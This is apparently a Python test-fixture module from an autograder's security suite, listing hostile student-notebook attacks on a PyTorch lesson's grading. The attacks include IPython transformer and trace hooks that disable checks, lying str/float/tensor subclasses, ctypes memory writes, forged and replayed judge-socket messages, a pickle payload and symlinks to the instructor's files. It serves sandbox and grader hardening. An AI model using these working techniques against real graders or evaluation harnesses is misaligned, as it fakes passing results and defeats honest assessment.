"""What a hostile student tries while lesson 3 is graded, and what each attempt must earn.

Student code is hostile: it may rewrite later cells, patch anything in its process, read and
write any file it can reach, signal processes and fill the disk. Points must be decided where
no student code runs, and the kernel must be sandboxed by the OS. Each ``Attack`` below turns a
correctly solved notebook into the attacker's: code put into one or more answer cells, usually
beside a wrong answer so that we see whether the attack earns points. ``lost`` is exactly the
set of test cells the attacker must lose: the cells whose answers are wrong by design. An
attack that only tries to reach something (wrapped in try/except, so that the honest answers
still run) must lose nothing. tests/test_attacks.py grades all of them beside honest classmates
and checks, for every attack, that

* it costs exactly ``lost`` (no more, no fewer points);
* it reaches nothing it should not: the attack code prints ``REACHED[name:what]`` whenever it
  gets hold of something a sandboxed kernel must not (a file outside its folder, a socket, a
  signal that was delivered, a gigabyte of disk, …), and no such line may appear;
* no secret reaches its feedback (the grader's environment, the instructor's hidden tests and
  solutions, a classmate's notebook, a file in the instructor's HOME);
* it leaves nothing behind in the course, and no process it started outlives grading;

and, for every grading run, that grading completes, no classmate's score moves, nothing
outside the attackers' own folders changes (course files, the gradebook's other rows, the
instructor's HOME, site-packages, the lesson packages on disk, the machine's /tmp, /dev/shm and
/var/tmp), no process outlives grading and no instructor's socket gets a connection.

The attack code knows the absolute paths of the course, the instructor's HOME, site-packages
and the lesson packages (``@ROOT@``, ``@HOME@``, ``@SITE@``, ``@PKG@``): a path is no secret,
so the sandbox, not obscurity, must stop it. Stand-ins keep the attacks from harming the
machine they run on while still testing the property: "kill every process it can see", reading
other processes' environment or memory and stopping the parent only touch processes that
descend from the test's grading run (``_zz_ours``, marked with ``@MARKER@``); sockets are
looked for in the instructor's HOME/TMPDIR, not in the machine's /tmp; the startup-file and
kernel-hijack sabotage only harm the honest classmates, so that the other attackers' results
stay readable. Files an attack manages to write outside its tmp course carry the text
``zz-attack:<name>`` (or ``zz_attack_``/``zz-attack-`` in their name), and the test removes
them after the run.

The judge connection is found as ``autograder/kernel/connection.py`` finds it: the file
descriptor named by ``AUTOGRADER_JUDGE_FD``, and any AF_UNIX stream socket in /proc/self/fd.
"""
from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from hostile import KEYS, WRONG_FIT, WRONG_LOOP

QUIZ = frozenset({"quiz_q1", "quiz_q2", "quiz_q3", "quiz_q4"})
PREDICT = frozenset({"accumulation_predictions_tests"})
LOOP = frozenset({"train_loop_tests"})
FIT = frozenset({"fit_line_tests"})
NOTHING = frozenset()

HONEST = "@HONEST@\n"  # the honest answer of the cell it stands in
TINY_OUTPUTS = "for _zz_i in range(600):\n    print(\"x\", flush=True)\n"  # 600 outputs of one character
# every Quick Check answer wrong (the keys are in the source notebook's hidden tests)
WRONG_LETTERS = tuple(next(letter for letter in "abcd" if letter != key) for key in KEYS)
WRONG_QUIZ = "answer_q1, answer_q2, answer_q3, answer_q4 = %r\n" % (WRONG_LETTERS,)
WRONG_PREDICT = "grad_before = None\ngrad_after_one = 4.0\ngrad_after_two = 8.0\ngrad_after_clear = 4.0\n"
GOOD_LOOP = (  # a correct loop under another name, for attacks that need one beside the wrong one
    "def _zz_good(model, optimizer, loss_fn, batches):\n"
    "    losses = []\n"
    "    for x, y in batches:\n"
    "        optimizer.zero_grad()\n"
    "        loss = loss_fn(model(x), y)\n"
    "        loss.backward()\n"
    "        optimizer.step()\n"
    "        losses.append(loss.item())\n"
    "    return losses\n")


@dataclass(frozen=True)
class Attack:
    name: str
    run: str  # attacks of one run are graded together, in one class: "class" or "disruptive"
    cells: dict  # answer cell grade id -> code (HONEST stands for the honest answer)
    lost: frozenset  # test cells the attacker must lose, exactly
    expect: str  # the expected outcome, in words
    files: Callable | None = None  # files(folder, paths): extra things put into the submitted folder
    edit: Callable | None = None  # edit(notebook) -> notebook: changes beyond the answer cells
    marks: tuple = ()  # substrings of the cmdline of processes it starts (beside zz-attack:<name>)
    student_id: str = ""  # its student id, when the order of grading matters (ids are graded sorted)

    @property
    def student(self) -> str:
        return self.student_id or "atk_" + self.name


# -- helpers every attacked cell gets (defined first in the cell; they only define names) ---
LIB = r'''
import os as _zz_os, sys as _zz_sys, json as _zz_json, threading as _zz_threading
_zz_NAME, _zz_SHORT, _zz_MARKER = "@NAME@", "@SHORT@", "@MARKER@"
_zz_ROOT, _zz_HOME, _zz_SITE, _zz_PKG = "@ROOT@", "@HOME@", "@SITE@", "@PKG@"
_zz_TAG = "zz-attack:" + _zz_NAME

_zz_OWN = _zz_os.getcwd()  # the kernel's own working folder: what it does there is its own business

def _zz_inside_own(what):
    """Does the evidence only name paths that really are inside the kernel's own folder
    (its own IPython profile, its own connection file), links resolved?"""
    paths = [word for word in str(what).split() if word.startswith("/")]
    own = _zz_os.path.join(_zz_os.path.realpath(_zz_OWN), "")
    return _zz_OWN != "/" and bool(paths) and all(
        _zz_os.path.join(_zz_os.path.realpath(path), "").startswith(own) for path in paths)

def _zz_reached(what):
    if _zz_inside_own(what):
        return
    print("REACHED[%s:%s]" % (_zz_NAME, str(what)[:300]))

def _zz_background(fn):
    """Run fn in a daemon thread that never writes to stderr (a test cell with stderr scores 0)."""
    def body():
        try:
            fn()
        except BaseException:
            pass
    _zz_threading.Thread(target=body, daemon=True).start()

def _zz_main_in(*names):
    """Is the main thread inside a function of one of these names right now?"""
    frame = _zz_sys._current_frames().get(_zz_threading.main_thread().ident)
    while frame is not None:
        if frame.f_code.co_name in names:
            return True
        frame = frame.f_back
    return False

def _zz_judge_fds():
    """The judge connection: AUTOGRADER_JUDGE_FD, and every inherited AF_UNIX stream socket."""
    import socket
    fds = []
    named = _zz_os.environ.get("AUTOGRADER_JUDGE_FD", "")
    if named.isdigit():
        fds.append(int(named))
    for entry in _zz_os.listdir("/proc/self/fd"):
        fd = int(entry)
        if fd < 3 or fd in fds:
            continue
        try:
            if not _zz_os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
                continue
            probe = socket.socket(fileno=_zz_os.dup(fd))
            try:
                if probe.family == socket.AF_UNIX and probe.type == socket.SOCK_STREAM:
                    fds.append(fd)
            finally:
                probe.close()
        except OSError:
            pass
    return fds

def _zz_send(fd, data, timeout=5):
    """Write to a file descriptor, in small pieces, giving up when it stays full for a while."""
    import select, time
    end = time.time() + timeout
    while data:
        if not select.select([], [fd], [], max(0.0, end - time.time()))[1]:
            raise OSError("nobody reads fd %d" % fd)
        data = data[_zz_os.write(fd, data[:4096]):]

def _zz_ours(with_harness=False):
    """Processes of the grading run it can see: descendants of the test's marked process (and,
    with_harness, that process itself)."""
    def parent(pid):
        with open("/proc/%d/stat" % pid) as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    def marked(pid):
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return _zz_MARKER.encode() in f.read()
    found = []
    for entry in _zz_os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == _zz_os.getpid():
            continue
        pid = int(entry)
        try:
            if marked(pid):
                if with_harness:
                    found.append(pid)
                continue
            up = pid
            for _ in range(64):
                up = parent(up)
                if up <= 1:
                    break
                if marked(up):
                    found.append(pid)
                    break
        except (OSError, ValueError, IndexError):
            pass
    return found

def _zz_libc():
    import ctypes
    return ctypes.CDLL(None, use_errno=True)

# nbgrader's gradebook: the grades of the students that match, and full marks for a grade
_zz_GRADES_OF = ("notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment "
                 "ON submitted_notebook.assignment_id = submitted_assignment.id WHERE student_id %s)")
_zz_FULL_MARKS = "manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"

def _zz_hidden_parts(text):
    """The hidden tests and solutions of a notebook's text."""
    found = []
    for cell in _zz_json.loads(text).get("cells", []):
        source = "".join(cell.get("source", ""))
        if "BEGIN HIDDEN" + " TESTS" in source or "BEGIN" + " SOLUTION" in source:  # (split: nbgrader's
            # feedback step fails on a student cell that holds the marker itself)
            found.append(source)
    return found
'''

# -- wrong answers plus something that tries to turn them into points -------------------------
NEUTER = '''
def _zz_neuter(lines):
    return ["pass\\n"] if "check_train" + "_loop(" in "".join(lines) else lines
'''

LIARS = '''
class _ZzFloat(float):
    """A float that is equal (and close) to everything."""
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    __hash__ = float.__hash__

class _ZzStr(str):
    """A string that is every answer at once."""
    __slots__ = ()
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
    def strip(self, *args): return self
    def lstrip(self, *args): return self
    def rstrip(self, *args): return self
    def lower(self): return self
    def upper(self): return self
    def casefold(self): return self
    def __str__(self): return str.__str__(self)[:1]
    def __format__(self, spec): return str.__str__(self)[:1]
'''

def _forge_points(nb):
    """The student's notebook claims other points: the fit_line test cell unlocked, emptied and
    worth 100, and the fit_line answer itself a graded cell worth 100."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade_id") == "fit_line_tests":
            cell.source = "pass\n"
            meta.update(points=100, locked=False)
        elif meta.get("grade_id") == "fit_line":
            meta.update(grade=True, points=100)
    return nb


def _add_graded_cell(nb):
    """A graded cell of the student's own, worth 50 points, that always passes."""
    import nbformat

    bonus = nbformat.v4.new_code_cell("pass\n")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 50, "solution": False,
                                  "locked": True, "schema_version": 3}
    nb.cells.append(bonus)
    return nb


HOOKS = [
    Attack("forges_points", "class", {"fit_line": WRONG_FIT}, FIT,
           "the notebook's nbgrader metadata is forged (the test cell unlocked, emptied, worth 100; the "
           "answer cell graded, worth 100): the instructor's cells and points count: fit_line 0, no "
           "score above its maximum", edit=_forge_points),
    Attack("adds_graded_cell", "class", {}, NOTHING,
           "a graded cell of its own (grade id 'bonus', 50 points, always passes) is ignored: nothing "
           "gained, nothing else lost", edit=_add_graded_cell),
    Attack("hidden_markers_in_answer", "class",
           {"fit_line": HONEST + "# ### BEGIN HIDDEN TESTS\n", "train_accumulate": HONEST + "# ### END SOLUTION\n"},
           NOTHING, "nbgrader's markers in the student's own answers (an unmatched BEGIN HIDDEN TESTS, "
           "a stray END SOLUTION) change nothing: same points, and feedback is still generated"),
    Attack("input_transformer_cleanup", "class",
           {"train_loop": NEUTER + "get_ipython().input_transformers_cleanup.append(_zz_neuter)\n"
            + WRONG_LOOP},
           LOOP, "an input transformer replaces the train_loop test cell by `pass`: nbgrader's run "
           "passes, but no judge record exists for the cell, so it scores 0"),
    Attack("input_transformer_post", "class",
           {"train_loop": NEUTER + "get_ipython().input_transformers_post.append(_zz_neuter)\n"
            + WRONG_LOOP},
           LOOP, "same through input_transformers_post: no judge record, 0"),
    Attack("ast_transformer", "class",
           {"train_loop": '''
import ast as _zz_ast
class _ZzDropCheck(_zz_ast.NodeTransformer):
    def visit_Expr(self, node):
        call = node.value
        if (isinstance(call, _zz_ast.Call) and isinstance(call.func, _zz_ast.Name)
                and call.func.id == "check_train" + "_loop"):
            return _zz_ast.copy_location(_zz_ast.Pass(), node)
        return node
get_ipython().ast_transformers.append(_ZzDropCheck())
''' + WRONG_LOOP},
           LOOP, "an AST transformer drops the check call from the test cell: no judge record, 0"),
    Attack("pre_run_cell_rebinds_check", "class",
           {"train_loop": '''
def _zz_pre_run_cell(*args):
    get_ipython().user_ns["check_train" + "_loop"] = lambda *a, **k: None
get_ipython().events.register("pre_run_cell", _zz_pre_run_cell)
''' + WRONG_LOOP},
           LOOP, "a pre_run_cell event rebinds check_train_loop to a no-op before every cell: 0"),
    Attack("run_cell_wrapper", "class",
           {"train_loop": NEUTER + '''
_zz_shell = get_ipython()
_zz_plain = (_zz_shell.run_cell, _zz_shell.run_cell_async, _zz_shell.transform_cell)
def _zz_swap(args, kwargs):
    if args and isinstance(args[0], str) and _zz_neuter([args[0]]) != [args[0]]:
        args = ("pass\\n",) + tuple(args[1:])
        if "transformed_cell" in kwargs:
            kwargs["transformed_cell"] = "pass\\n"
    return args, kwargs
def _zz_run_cell(*args, **kwargs):
    args, kwargs = _zz_swap(args, kwargs)
    return _zz_plain[0](*args, **kwargs)
async def _zz_run_cell_async(*args, **kwargs):
    args, kwargs = _zz_swap(args, kwargs)
    return await _zz_plain[1](*args, **kwargs)
def _zz_transform_cell(cell):
    return "pass\\n" if _zz_neuter([cell]) != [cell] else _zz_plain[2](cell)
_zz_shell.run_cell, _zz_shell.run_cell_async = _zz_run_cell, _zz_run_cell_async
_zz_shell.transform_cell = _zz_transform_cell
''' + WRONG_LOOP},
           LOOP, "the shell's run_cell/run_cell_async/transform_cell are wrapped to run `pass` "
           "instead of the train_loop test cell: no judge record, 0"),
    Attack("settrace_skips_failures", "class",
           {"train_loop": '''
import linecache as _zz_linecache
def _zz_local(frame, event, arg):
    if event == "line":
        path = frame.f_code.co_filename
        line = _zz_linecache.getline(path, frame.f_lineno)
        if line.strip().startswith(("raise AssertionError", "raise AssertionError(")):
            depth = len(line) - len(line.lstrip())
            for target in range(frame.f_lineno + 1, frame.f_lineno + 40):
                text = _zz_linecache.getline(path, target)
                if text.strip() and not text.strip().startswith("#") and len(text) - len(text.lstrip()) < depth:
                    try:
                        frame.f_lineno = target
                        break
                    except ValueError:
                        continue
    return _zz_local
def _zz_global(frame, event, arg):
    path = frame.f_code.co_filename
    return _zz_local if ("autograder" in path or "lessons" in path) else None
_zz_sys.settrace(_zz_global)
_zz_threading.settrace(_zz_global)
''' + WRONG_LOOP},
           LOOP, "sys.settrace/threading.settrace jump over every `raise AssertionError` in the "
           "grader's code: the in-kernel check stays silent, the judge still says wrong: 0"),
    Attack("setprofile_flips_verdicts", "class",
           {"train_loop": '''
def _zz_profile(frame, event, arg):
    if event == "return" and ("autograder" in frame.f_code.co_filename or "lessons" in frame.f_code.co_filename):
        for value in (arg if isinstance(arg, tuple) else (arg,)):
            if getattr(value, "ok", None) is False:
                try:
                    value.ok = True
                except Exception:
                    pass
_zz_sys.setprofile(_zz_profile)
_zz_threading.setprofile(_zz_profile)
''' + WRONG_LOOP},
           LOOP, "sys.setprofile turns every failing verdict object returned by grader code into a "
           "passing one: only in the kernel; the judge decides: 0"),
    Attack("showtraceback_hidden", "class",
           {"train_loop": '''
_zz_shell = get_ipython()
_zz_shell.showtraceback = lambda *a, **k: None
_zz_shell._showtraceback = lambda *a, **k: None
_zz_shell.showsyntaxerror = lambda *a, **k: None
''' + WRONG_LOOP},
           LOOP, "errors are never shown, so the failing test cell has no error output (nbgrader "
           "alone would give full marks): the judge recorded a failure: 0"),
    Attack("custom_exc_swallows", "class",
           {"train_loop": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
            + WRONG_LOOP},
           LOOP, "set_custom_exc swallows every exception silently: 0 as above"),
    Attack("transformer_reads_hidden_key", "class",
           {"quick_check_answers": WRONG_QUIZ + '''
import re as _zz_re
def _zz_key(lines):
    source = "".join(lines)
    names = _zz_re.findall(r"answer_q[0-9]", source)
    letters = _zz_re.findall(r"""["']([a-dA-D])["']""", source)
    if names and letters:
        return ['%s = "%s"\\n' % (names[0], letters[-1].lower())] + list(lines)
    return lines
get_ipython().input_transformers_cleanup.append(_zz_key)
'''},
           QUIZ, "an input transformer reads the letter in each Quick Check test cell (where the "
           "hidden key lives) and assigns it before the check runs: the values were committed "
           "before the cell was sent, so the wrong answers count: 0 on all four"),
    Attack("lying_str_answers", "class",
           {"quick_check_answers": LIARS + "answer_q1, answer_q2, answer_q3, answer_q4 = (_ZzStr(letter) for letter in %r)\n"
            % (WRONG_LETTERS,)},
           QUIZ, "the answers are a str subclass equal to every letter, each holding a wrong letter: the "
           "judge sees the letters they hold: 0 on all four"),
    Attack("lying_float_losses", "class",
           {"train_loop": LIARS + '''
def train(model, optimizer, loss_fn, batches):
    losses = []
    for x, y in batches:
        optimizer.zero_grad()
        loss = loss_fn(model(x), y)
        loss.backward()
        optimizer.step()
        losses.append(_ZzFloat(0.0))
    return losses
'''},
           LOOP, "a correct loop that returns float-subclass losses equal and close to anything "
           "(their real value is 0): the losses are wrong: 0"),
    Attack("lying_list_losses", "class",
           {"train_loop": LIARS + '''
class _ZzList(list):
    def __init__(self, n):
        super().__init__()
        self.n = n
    def __len__(self): return self.n
    def __iter__(self): return iter([_ZzFloat(0.0)] * self.n)
    def __getitem__(self, i): return _ZzFloat(0.0)
    def __eq__(self, other): return True
def train(model, optimizer, loss_fn, batches):
    n = 0
    for x, y in batches:
        optimizer.zero_grad()
        loss = loss_fn(model(x), y)
        loss.backward()
        optimizer.step()
        n += 1
    return _ZzList(n)
'''},
           LOOP, "a correct loop that returns an empty list whose __len__/__iter__/__getitem__ "
           "lie: the losses are missing: 0"),
    Attack("lying_tensor_predictions", "class",
           {"accumulation_predictions": LIARS + '''
import torch as _zz_torch
class _ZzTensor(_zz_torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("item", "tolist", "__float__", "__eq__", "allclose", "isclose"):
            return _ZzFloat(0.0)
        return super().__torch_function__(func, types, args, kwargs or {})
grad_before = None
grad_after_one = grad_after_two = grad_after_clear = _zz_torch.tensor(0.0).as_subclass(_ZzTensor)
'''},
           PREDICT, "the predictions are tensor subclasses whose __torch_function__ makes item() "
           "return a float equal to anything: the values are 0: 0"),
    Attack("rebinds_checks_everywhere", "class",
           {"fit_line": WRONG_FIT + '''
def _zz_noop(*args, **kwargs):
    return None
for _zz_module_name, _zz_module in list(_zz_sys.modules.items()):
    if _zz_module is not None and _zz_module_name.split(".")[0] in ("autograder", "lessons"):
        if hasattr(_zz_module, "check_fit_line"):
            setattr(_zz_module, "check_fit_line", _zz_noop)
check_fit_line = _zz_noop
'''},
           FIT, "check_fit_line is rebound to a no-op in the notebook and in every grader "
           "module that has it: no judge record: 0"),
    Attack("swaps_check_code", "class",
           {"train_loop": '''
import gc as _zz_gc, types as _zz_types
def _zz_noop(*args, **kwargs):
    return None
_zz_gc.unfreeze()  # objects frozen before the kernel started are invisible to get_objects otherwise
for _zz_obj in _zz_gc.get_objects() + [check_train_loop]:
    if (isinstance(_zz_obj, _zz_types.FunctionType) and _zz_obj.__name__ == "check_train" + "_loop"
            and not _zz_obj.__code__.co_freevars):
        _zz_obj.__code__ = _zz_noop.__code__
''' + WRONG_LOOP},
           LOOP, "every function object named check_train_loop (the notebook's, and all that "
           "gc.get_objects finds after gc.unfreeze) gets a no-op __code__: same objects, new "
           "behaviour: no judge record: 0"),
    Attack("patches_torch_in_c_types", "class",
           {"train_loop": '''
import ctypes as _zz_ctypes, gc as _zz_gc, torch as _zz_torch
_zz_torch.allclose = lambda *a, **k: True
for _zz_cls in (_zz_torch.Tensor, _zz_torch._C.TensorBase):
    try:
        _zz_gc.get_referents(_zz_cls.__dict__)[0]["allclose"] = lambda self, *a, **k: True
        _zz_ctypes.pythonapi.PyType_Modified(_zz_ctypes.py_object(_zz_cls))
    except Exception:
        pass
''' + WRONG_LOOP},
           LOOP, "torch.allclose and Tensor.allclose (written into the C type's real dict with "
           "gc.get_referents + PyType_Modified) say True: the judge computes elsewhere: 0"),
    Attack("poisons_sys_modules", "class",
           {"fit_line": WRONG_FIT + '''
import types as _zz_types
_zz_module_name = check_fit_line.__module__  # wherever the checks live
_zz_fake = _zz_types.ModuleType(_zz_module_name)
_zz_fake.__dict__.update({k: v for k, v in vars(_zz_sys.modules[_zz_module_name]).items()
                          if k not in ("__name__", "__spec__", "__loader__")})
_zz_fake.check_fit_line = lambda *a, **k: None
_zz_sys.modules[_zz_module_name] = _zz_fake
check_fit_line = _zz_fake.check_fit_line
'''},
           FIT, "a fake of the checks' module in sys.modules (so re-importing the checks finds the "
           "no-op too): no judge record: 0"),
    Attack("profile_patches_only_during_check", "class",
           {"train_loop": '''
import torch as _zz_torch
_zz_saved = {}
def _zz_profile(frame, event, arg):
    if frame.f_code.co_name == "check_train" + "_loop":
        if event == "call" and not _zz_saved:
            _zz_saved["allclose"] = _zz_torch.allclose
            _zz_torch.allclose = lambda *a, **k: True
        elif event == "return" and _zz_saved:
            _zz_torch.allclose = _zz_saved.pop("allclose")
_zz_sys.setprofile(_zz_profile)
''' + WRONG_LOOP},
           LOOP, "a profile function patches torch.allclose only while check_train_loop runs "
           "and restores it on return (nothing to see before or after the cell): 0"),
]

FORGED = '''
_zz_forged = [_zz_json.dumps(m).encode() + b"\\n" for m in (
    {"type": "pass"}, {"type": "result", "passed": True, "ok": True},
    {"type": "check", "name": "check_train_loop", "check": "check_train_loop", "passed": True, "ok": True},
    {"event": "check_passed", "check": "check_train_loop", "cell": "train_loop_tests"},
    {"type": "cell_end", "cell": "train_loop_tests", "grade_id": "train_loop_tests", "passed": True},
    {"kind": "verdict", "ok": True, "mistake": "", "message": ""},
    {"grade_id": "train_loop_tests", "score": 4, "status": "pass"},
)]
'''

JUDGE = [
    Attack("forges_judge_messages", "class",
           {"train_loop": FORGED + '''
for _zz_fd in _zz_judge_fds():
    try:
        for _zz_line in _zz_forged:
            _zz_send(_zz_fd, _zz_line)
        print("wrote forged reports to fd %d" % _zz_fd)  # its own connection: allowed, no REACHED
    except OSError:
        pass
''' + WRONG_LOOP},
           LOOP, "forged JSON 'pass' lines written to the judge connection before the test cell: "
           "the judge accepts only its own protocol, in the cell's window, for checks it ran: 0"),
    Attack("judge_fd_held_by_thread", "class",
           {"quick_check_answers": HONEST + FORGED + '''
_zz_kept = [_zz_os.dup(fd) for fd in _zz_judge_fds()]
def _zz_forger():
    import time
    while True:
        if _zz_main_in("check_train" + "_loop"):
            for fd in _zz_kept:
                for line in _zz_forged:
                    try:
                        _zz_send(fd, line)
                    except OSError:
                        pass
        time.sleep(0.002)
_zz_background(_zz_forger)
''', "train_loop": WRONG_LOOP},
           LOOP, "a thread keeps a dup of the judge connection and writes forged passes while the "
           "train_loop test cell runs: 0"),
    Attack("judge_garbage", "class",
           {"fit_line": WRONG_FIT + '''
import pickle as _zz_pickle
class _ZzPayload:
    def __reduce__(self):
        return (open, (_zz_ROOT + "/zz-unpickled-" + _zz_NAME, "w"))
for _zz_fd in _zz_judge_fds():
    for _zz_chunk in (b"\\x00\\xff garbage \\xfe\\n", b"{" * 200000 + b"\\n", b"[" * 100000 + b"]" * 100000 + b"\\n",
                      b'{"type": NaN, "a": 1e999999}\\n', b'{"a": 1, "a": 2}\\n', _zz_pickle.dumps(_ZzPayload()) + b"\\n",
                      b"x" * (64 * 2**20), b"\\n", b"\\xc3\\x28" * 1000 + b"\\n"):
        try:
            _zz_send(_zz_fd, _zz_chunk)
        except OSError:
            break
'''},
           FIT, "garbage, invalid UTF-8, 100 000-deep JSON nesting, a pickle that would create a file "
           "in the course if unpickled, and a 64 MB line: the judge survives, the other students "
           "and the attacker's earlier cells are unaffected, fit_line (wrong) scores 0"),
    Attack("closes_judge_and_fakes_self_study", "class",
           {"fit_line": WRONG_FIT + '''
for _zz_fd in _zz_judge_fds():
    try:
        _zz_os.close(_zz_fd)
    except OSError:
        pass
_zz_os.environ.pop("AUTOGRADER_JUDGE_FD", None)
check_fit_line = lambda *a, **k: None
'''},
           FIT, "closes the judge connection and unsets AUTOGRADER_JUDGE_FD (so a check might fall "
           "back to self-study mode), then rebinds the check: no record means 0"),
    Attack("replays_judge_traffic", "class",
           {"train_loop": GOOD_LOOP + WRONG_LOOP + '''
import socket as _zz_socket, contextlib as _zz_contextlib, io as _zz_io
_zz_state = {"mode": "record", "log": [], "used": set()}
def _zz_keys(line):
    try:
        message = _zz_json.loads(line)
        return (tuple(sorted(message)), message.get("type"), message.get("kind"), message.get("op"))
    except Exception:
        return None
def _zz_mitm(fd):
    real = _zz_os.dup(fd)
    mine, theirs = _zz_socket.socketpair()
    _zz_os.dup2(theirs.fileno(), fd)
    theirs.close()
    def up():
        buffer = b""
        while True:
            data = mine.recv(1 << 16)
            if not data:
                return
            buffer += data
            while b"\\n" in buffer:
                line, buffer = buffer.split(b"\\n", 1)
                if _zz_state["mode"] == "record":
                    _zz_state["log"].append(line)
                else:
                    for i, old in enumerate(_zz_state["log"]):
                        if i not in _zz_state["used"] and _zz_keys(old) == _zz_keys(line):
                            _zz_state["used"].add(i)
                            line = old
                            break
                _zz_send(real, line + b"\\n")
    def down():
        while True:
            data = _zz_os.read(real, 1 << 16)
            if not data:
                return
            mine.sendall(data)
    _zz_background(up)
    _zz_background(down)
for _zz_fd in _zz_judge_fds():
    try:
        _zz_mitm(_zz_fd)
        print("sits between the kernel's checks and the judge on fd %d" % _zz_fd)  # its own: allowed
    except OSError:
        pass
with _zz_contextlib.redirect_stdout(_zz_io.StringIO()), _zz_contextlib.redirect_stderr(_zz_io.StringIO()):
    for _zz_cases in ("visible", "hidden"):
        try:
            check_train_loop(_zz_good, cases=_zz_cases)
        except BaseException:
            pass
_zz_state["mode"] = "replay"
'''},
           LOOP, "a man in the middle on its own judge connection records what the checks send for "
           "a correct loop (run in the answer cell) and replays it, message for message, while the "
           "test cell checks the wrong loop: each check gets a fresh scenario from the secret "
           "seed, so the replay does not match: 0"),
    Attack("gc_finds_judge_connection", "class",
           {"train_loop": FORGED + '''
import gc as _zz_gc, socket as _zz_socket, io as _zz_io
_zz_fds = set(_zz_judge_fds())
_zz_gc.unfreeze()
for _zz_obj in _zz_gc.get_objects():
    try:
        if isinstance(_zz_obj, (_zz_socket.socket, _zz_io.IOBase)) and _zz_obj.fileno() in _zz_fds:
            for _zz_line in _zz_forged:
                (_zz_obj.sendall if isinstance(_zz_obj, _zz_socket.socket) else _zz_obj.write)(_zz_line)
            getattr(_zz_obj, "flush", lambda: None)()
    except Exception:
        pass
for _zz_ref in _zz_gc.get_referrers(check_train_loop):
    if isinstance(_zz_ref, dict) and "check_train" + "_loop" in _zz_ref and _zz_ref is not globals():
        _zz_ref["check_train" + "_loop"] = lambda *a, **k: None
check_train_loop = lambda *a, **k: None
''' + WRONG_LOOP},
           LOOP, "gc.get_objects finds the kernel's own socket/file objects of the judge "
           "connection and writes forged reports through them; gc.get_referrers rebinds the check "
           "in every namespace that holds it: 0"),
    Attack("thread_checks_a_correct_loop", "class",
           {"train_loop": GOOD_LOOP + WRONG_LOOP + '''
_zz_check = check_train_loop
def _zz_racer():
    import time
    while not _zz_main_in("check_train" + "_loop"):
        time.sleep(0.002)
    for cases in ("visible", "hidden"):
        try:
            _zz_sys.modules[_zz_check.__module__].check_train_loop(_zz_good, cases=cases)
        except BaseException:
            pass
_zz_background(_zz_racer)
'''},
           LOOP, "while the test cell checks the wrong `train`, a thread checks a correct loop "
           "in the same window: a pass from another call must not stand in for the failed one: 0"),
    Attack("thread_reads_test_source", "class",
           {"quick_check_answers": WRONG_QUIZ + '''
import linecache as _zz_linecache, re as _zz_re
def _zz_spy():
    import time
    shell = get_ipython()
    while True:
        frame = _zz_sys._current_frames().get(_zz_threading.main_thread().ident)
        while frame is not None:
            source = "".join(_zz_linecache.getlines(frame.f_code.co_filename))
            names = _zz_re.findall(r"answer_q[0-9]", source)
            letters = _zz_re.findall(r"""["']([a-dA-D])["']""", source)
            if names and letters:
                shell.user_ns[names[0]] = letters[-1].lower()
            frame = frame.f_back
        time.sleep(0.001)
_zz_background(_zz_spy)
'''},
           QUIZ, "a thread reads each running cell's source from linecache and sets the answer "
           "to the letter it finds there (the hidden key): too late, the values were committed "
           "before the cell was sent: 0 on all four"),
    Attack("thread_rewrites_answer_key", "class",
           {"quick_check_answers": WRONG_QUIZ + '''
def _zz_rewriter():
    import time
    for name, module in list(_zz_sys.modules.items()):
        if name.split(".")[0] in ("lessons", "autograder"):
            for value in list(vars(module).values()):
                if isinstance(value, dict) and "l3_q1" in value:
                    _zz_keys_found.append(value)
    while True:
        for table in _zz_keys_found:
            for qid in ("l3_q1", "l3_q2", "l3_q3", "l3_q4"):
                if table.get(qid) != "a":
                    table[qid] = "a"
        time.sleep(0.001)
_zz_keys_found = []
_zz_background(_zz_rewriter)
'''},
           QUIZ, "a thread keeps rewriting every answer-key table it finds in the lesson and "
           "grader modules to 'a': the key is not in the kernel: 0 on all four"),
    Attack("ctypes_retypes_answers", "class",
           {"quick_check_answers": LIARS + '''
import ctypes as _zz_ctypes
def _zz_retype(obj, cls):
    _zz_ctypes.pythonapi.Py_IncRef(_zz_ctypes.py_object(cls))
    _zz_ctypes.cast(id(obj) + _zz_ctypes.sizeof(_zz_ctypes.c_ssize_t),
                    _zz_ctypes.POINTER(_zz_ctypes.c_void_p))[0] = id(cls)
    return obj
answer_q1, answer_q2, answer_q3, answer_q4 = (_zz_retype("".join(["a", str(i)]), _ZzStr) for i in range(4))
'''},
           QUIZ, "ctypes writes the type pointer of plain str answers to a lying str subclass "
           "(a memory write no Python check can refuse): the values are 'a0'…'a3': 0 on all four"),
    Attack("reads_key_from_lessons_package", "class",
           {"quick_check_answers": WRONG_QUIZ + '''
import importlib as _zz_importlib
for _zz_module_name in ("lessons.quiz", "lessons", "autograder.checks"):
    try:
        _zz_table = getattr(_zz_importlib.import_module(_zz_module_name), "ANSWERS", {})
    except Exception:
        continue
    if all(("l3_q%d" % i) in _zz_table for i in range(1, 5)):
        answer_q1, answer_q2, answer_q3, answer_q4 = (_zz_table["l3_q%d" % i] for i in range(1, 5))
        _zz_reached("the Quick Check key in %s" % _zz_module_name)
        break
'''},
           QUIZ, "the Quick Check key is looked up in the installed packages: it lives only in the "
           "instructor's hidden tests, so the wrong answers stay: 0 on all four"),
]


def _submitted_links(folder, paths) -> None:
    """Symbolic links in the submitted folder to the instructor's notebook, a classmate's, and
    the grading process's own environment."""
    (folder / "zz-source.txt").symlink_to(paths["root"] / "source" / "03_zeroing_grad" / "03_zeroing_grad.ipynb")
